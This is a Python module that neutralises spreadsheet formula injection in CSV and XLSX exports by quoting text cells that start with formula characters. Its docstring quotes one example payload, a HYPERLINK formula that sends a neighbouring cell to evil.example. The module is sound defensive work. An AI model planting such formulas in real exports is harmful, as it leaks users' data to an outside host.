"""Spreadsheet cells that cannot turn into formulas (CSV/formula injection).

A spreadsheet program treats a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and tab or carriage return can smuggle one in after a separator.
A toilet named ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would otherwise
become a live link that leaks the neighbouring cell when an official opens the
export. OWASP's CSV-injection guidance: prefix such text with a single quote, so the
program shows it as text. Every CSV and XLSX civgrid writes passes its cells through
:func:`neutralise`; only text is touched, so a negative *number* stays a number.

Examples
--------
>>> neutralise("=1+1"), neutralise("-3"), neutralise(-3), neutralise("厕所")
("'=1+1", "'-3", -3, '厕所')

civgrid's own CSV reader (:func:`geo.io.readers.read_csv`) takes such a quote off again
(:data:`NEUTRALISED`), so a CSV export imports back as it was: a spreadsheet program
never writes that quote into a CSV itself (it is how one types a formula as text).
"""

#: The first characters that make a spreadsheet read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A neutralised text (RE2 and Python syntax): the quote, then the formula start in group 1.
NEUTRALISED = r"^'([=+\-@\t\r])"


def neutralise(value):
    """``value`` itself, or with a leading ``'`` when it is text a spreadsheet would
    read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame):
    """A copy of the DataFrame ``frame`` with every text cell neutralised."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    return out
